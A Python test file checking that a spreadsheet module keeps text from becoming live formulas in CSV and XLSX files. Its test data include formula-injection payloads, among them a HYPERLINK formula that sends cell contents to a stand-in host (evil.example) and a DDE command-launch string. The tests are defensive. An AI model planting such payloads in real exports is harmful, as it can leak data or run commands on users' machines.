"""Text from other people's files never becomes a live formula in a spreadsheet, and survives
the round trip through our own CSV files letter for letter."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from narratives.spreadsheet import (
    neutralise,
    read_csv_frame,
    restore,
    set_xlsx_cell,
    write_csv_frame,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"pay")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''",
    "'Tis the season",
    "plain text",
    "",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " "]), max_size=6))
def test_neutralise_is_undone_exactly_by_restore(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(TRIGGERS)


def test_csv_cells_open_as_text_and_read_back_exactly(tmp_path: Path) -> None:
    frame = pd.DataFrame({"text": HOSTILE, "score": [-0.5] * len(HOSTILE), "=col": ["x"] * len(HOSTILE)})
    path = write_csv_frame(frame, tmp_path / "t.csv", index=False)
    with path.open(newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    # what a spreadsheet program would see: no cell starts a formula (numbers stay numbers)
    assert not [c for c in cells if c.startswith(TRIGGERS) and c != "-0.5"]
    back = read_csv_frame(path, dtype={"text": str}, keep_default_na=False)
    assert back["text"].tolist() == HOSTILE
    assert back.columns.tolist() == ["text", "score", "=col"]
    assert back["score"].tolist() == [-0.5] * len(HOSTILE)


def test_xlsx_cells_are_strings_never_formulas(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    values = [*HOSTILE, "bell\x07 and form feed\x0c", 3.5]
    for row, value in enumerate(values, start=1):
        set_xlsx_cell(ws, row, 1, value)
    wb.save(tmp_path / "t.xlsx")
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert sheet is not None
    cells = [sheet.cell(row=r, column=1) for r in range(1, len(values) + 1)]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert [c.value or "" for c in cells[: len(HOSTILE)]] == HOSTILE
    assert cells[len(HOSTILE)].value == "bell\ufffd and form feed\ufffd"
    assert cells[-1].value == 3.5
